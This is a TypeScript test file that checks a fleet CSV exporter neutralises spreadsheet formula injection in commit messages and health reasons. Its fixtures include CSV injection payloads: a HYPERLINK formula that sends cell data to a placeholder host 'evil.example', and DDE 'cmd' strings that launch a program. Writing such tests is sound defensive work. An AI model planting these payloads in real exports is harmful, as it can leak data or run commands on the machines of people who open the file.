import type { EnvironmentRow } from '@plinth/plugin-environments-common';
import { Readable } from 'node:stream';
import { text } from 'node:stream/consumers';
import { csvRecord, fleetCsv } from './fleetCsv';

const row = (over: Partial<EnvironmentRow>): EnvironmentRow => ({
  entityRef: 'resource:default/claims-dev',
  name: 'claims-dev',
  kind: 'environment',
  stage: 'dev',
  account: '001122223333',
  region: 'us-east-1',
  owner: 'group:default/claims',
  blueprint: 'application@1.0.0',
  health: 'Healthy',
  sync: 'InSync',
  freshness: { readAt: null, source: 'CloudFormation', stale: false },
  ...over,
});
const csvOf = async (...rows: EnvironmentRow[]) => {
  const written = fleetCsv();
  Readable.from(rows.map(csvRecord)).pipe(written);
  return text(written);
};

describe('the fleet as comma-separated values', () => {
  it.each([
    '=HYPERLINK("https://evil.example/?"&A1,"Open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '\t=1+1',
    '\r=1+1',
    '＝1+1',
  ])(
    'hold no formula, whatever a commit or a stack event says: %j',
    async attack => {
      const csv = await csvOf(
        row({
          lastCommit: { sha: 'a'.repeat(40), url: '', message: attack },
          healthReason: attack,
        }),
      );
      const cell = `"'${attack.replaceAll('"', '""')}"`;
      expect(csv.split(cell)).toHaveLength(3);
    },
  );

  it('keep what would end a cell or a line inside it, for spreadsheets with other separators too', async () => {
    const csv = await csvOf(
      row({ healthReason: 'a";=1+1;"\n=2+2,=3+3', monthToDate: 1.5 }),
      row({ name: 'claims-staging' }),
    );
    expect(csv).toContain('"a"";=1+1;""\n=2+2,=3+3"');
    expect(csv.trim().split('\r\n')).toHaveLength(3);
  });

  it('have numbers as numbers, below zero too, and nothing where nothing is known', async () => {
    const [, line] = (
      await csvOf(row({ monthToDate: -1.25, forecast: null }))
    ).split('\r\n');
    expect(line).toContain('"InSync",-1.25,,,');
    expect(line).toContain('"001122223333"');
  });
});
